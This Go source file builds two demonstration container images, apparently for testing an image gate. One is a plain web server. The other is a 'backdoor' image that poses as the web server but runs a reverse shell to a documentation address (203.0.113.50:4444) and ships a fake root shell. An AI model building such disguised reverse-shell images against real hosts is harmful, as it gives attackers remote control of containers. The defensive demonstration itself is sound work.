package demo

import (
	"archive/tar"
	"bytes"
	"fmt"
	"io"
	"net/netip"
	"slices"
	"strings"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/tarball"

	"github.com/sallyport-dev/sallyport/internal/tinyelf"
)

// Image is one image of the demonstration.
type Image struct {
	Repository string // path in the registry
	Tag        string
	Does       string // one line for people
	Malicious  bool
	Image      v1.Image
}

// Port is where the well-behaved image serves its page.
const Port = 8080

// Caller is whom the backdoor calls. The address is set aside for
// documentation (RFC 5737), nobody can have it.
var Caller = netip.MustParseAddrPort("203.0.113.50:4444")

// Images builds the demonstration's images for a CPU as Go spells it (amd64,
// arm64). The same CPU always gives the same digests. The error wraps
// tinyelf.ErrArch for any other CPU.
func Images(arch string) ([]Image, error) {
	good, err := webserver(arch)
	if err != nil {
		return nil, fmt.Errorf("demo: the web server: %w", err)
	}
	bad, err := backdoor(arch)
	if err != nil {
		return nil, fmt.Errorf("demo: the backdoor: %w", err)
	}
	return []Image{
		{Repository: "webserver", Tag: "v1", Does: fmt.Sprintf("serves a page on port %d", Port), Image: good},
		{Repository: "backdoor", Tag: "v1", Does: fmt.Sprintf("calls %s and gives it a shell", Caller), Malicious: true, Image: bad},
	}, nil
}

func webserver(arch string) (v1.Image, error) {
	const page = "<h1>Behind the gate</h1>\n"
	answer := fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(page), page)
	server, err := tinyelf.Server(arch, Port, answer, 1<<30)
	if err != nil {
		return nil, err
	}
	return build(arch, v1.Config{
		Entrypoint:   []string{"/usr/bin/webserver"},
		ExposedPorts: map[string]struct{}{fmt.Sprintf("%d/tcp", Port): {}},
		User:         "1000",
	}, map[string][]byte{"usr/bin/webserver": server})
}

// backdoor poses as the web server, too.
func backdoor(arch string) (v1.Image, error) {
	caller, err := tinyelf.ReverseShell(arch, Caller)
	if err != nil {
		return nil, err
	}
	shell, err := tinyelf.Shell(arch, "uid=0(root) gid=0(root)\n")
	if err != nil {
		return nil, err
	}
	return build(arch, v1.Config{
		Entrypoint: []string{"/usr/bin/webserver"},
	}, map[string][]byte{"usr/bin/webserver": caller, "bin/sh": shell})
}

// build makes an image of one layer.
func build(arch string, config v1.Config, programs map[string][]byte) (v1.Image, error) {
	content, err := layer(programs)
	if err != nil {
		return nil, err
	}
	l, err := tarball.LayerFromOpener(func() (io.ReadCloser, error) {
		return io.NopCloser(bytes.NewReader(content)), nil
	})
	if err != nil {
		return nil, err
	}
	img, err := mutate.AppendLayers(empty.Image, l)
	if err != nil {
		return nil, err
	}
	cf, err := img.ConfigFile()
	if err != nil {
		return nil, err
	}
	cf = cf.DeepCopy()
	cf.OS, cf.Architecture, cf.Config = "linux", arch, config
	return mutate.ConfigFile(img, cf)
}

// layer is a tar with the programs, their folders and what else every image has.
func layer(programs map[string][]byte) ([]byte, error) {
	headers := map[string]*tar.Header{"tmp/": {Typeflag: tar.TypeDir, Name: "tmp/", Mode: 0o1777}}
	for name, content := range programs {
		headers[name] = &tar.Header{Typeflag: tar.TypeReg, Name: name, Mode: 0o755, Size: int64(len(content))}
		for i, c := range name {
			if c == '/' {
				headers[name[:i+1]] = &tar.Header{Typeflag: tar.TypeDir, Name: name[:i+1], Mode: 0o755}
			}
		}
	}
	names := make([]string, 0, len(headers))
	for name := range headers {
		names = append(names, name)
	}
	slices.SortFunc(names, strings.Compare) // parents come first, and every build is the same
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for _, name := range names {
		if err := w.WriteHeader(headers[name]); err != nil {
			return nil, err
		}
		if _, err := w.Write(programs[name]); err != nil {
			return nil, err
		}
	}
	if err := w.Close(); err != nil {
		return nil, err
	}
	return b.Bytes(), nil
}
